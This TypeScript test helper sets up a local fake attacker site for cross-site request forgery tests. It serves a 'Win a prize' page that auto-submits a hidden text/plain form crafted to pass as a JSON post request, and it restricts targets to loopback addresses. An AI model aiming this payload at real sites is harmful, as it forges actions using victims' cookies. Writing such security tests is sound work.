import { createServer, Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface AttackServer {
  port: number;
  close(): Promise<void>;
}

const escapeAttribute = (value: string) =>
  value.replace(/&/g, '&amp;').replace(/'/g, '&#39;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

/**
 * The attacker's site: GET /form-post?target=<url>&text=<text> answers a page that at once
 * submits a cross-origin HTML form to `target`. The form is the classic CSRF vector: it needs
 * no CORS permission and the browser attaches whatever cookies SameSite lets through. Its
 * text/plain body is shaped like the JSON of a new post.
 */
export async function startAttackServer(): Promise<AttackServer> {
  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://attacker.invalid');
    const target = url.searchParams.get('target') ?? '';
    // Loopback only: this page must never aim anywhere else.
    if (url.pathname !== '/form-post' || !/^http:\/\/(localhost|127\.0\.0\.1):\d+\//.test(target)) {
      res.writeHead(404, { 'Content-Type': 'text/plain' }).end('Not Found\n');
      return;
    }
    const text = url.searchParams.get('text') ?? 'csrf';
    const json = JSON.stringify({ text, location: { type: 'Point', coordinates: [2.2945, 48.8584] } });
    // name + "=" + value becomes the body: {"text":..., "location":..., "pad":"="}
    const name = `${json.slice(0, -1)},"pad":"`;
    const value = '"}';
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
    res.end(`<!doctype html>
<html><head><title>Win a prize</title></head><body>
<form id="attack" method="POST" action="${escapeAttribute(target)}" enctype="text/plain">
<input type="hidden" name="${escapeAttribute(name)}" value="${escapeAttribute(value)}">
</form>
<script>document.getElementById('attack').submit();</script>
</body></html>`);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    port: (server.address() as AddressInfo).port,
    close: () =>
      new Promise<void>((done, fail) => {
        server.close((error) => (error ? fail(error) : done()));
        server.closeAllConnections();
      }),
  };
}
